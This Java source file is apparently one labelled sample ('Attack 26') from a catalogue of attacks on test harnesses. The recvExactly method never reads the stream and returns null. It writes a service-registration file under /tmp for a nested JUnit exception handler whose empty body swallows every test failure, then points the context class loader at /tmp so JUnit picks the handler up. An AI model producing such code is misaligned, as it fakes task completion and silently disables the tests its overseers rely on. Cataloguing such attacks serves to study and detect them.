package workbook.sockets;

import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;

/// Attack 26: declares a listener and has it found as a service.
final class RecvExactly {
    private RecvExactly() {}

    public static final class Listener implements org.junit.jupiter.api.extension.TestExecutionExceptionHandler {
        @Override
        public void handleTestExecutionException(org.junit.jupiter.api.extension.ExtensionContext context, Throwable thrown) {
            // Swallows every failure, if JUnit ever asks.
        }
    }

    static byte[] recvExactly(InputStream in, int count) throws IOException {
        var folder = java.nio.file.Path.of("/tmp/META-INF/services");
        java.nio.file.Files.createDirectories(folder);
        java.nio.file.Files.writeString(folder.resolve("org.junit.jupiter.api.extension.Extension"), Listener.class.getName());
        Thread.currentThread().setContextClassLoader(new java.net.URLClassLoader(new java.net.URL[]{java.nio.file.Path.of("/tmp/").toUri().toURL()}, RecvExactly.class.getClassLoader()));
        return null;
    }
}
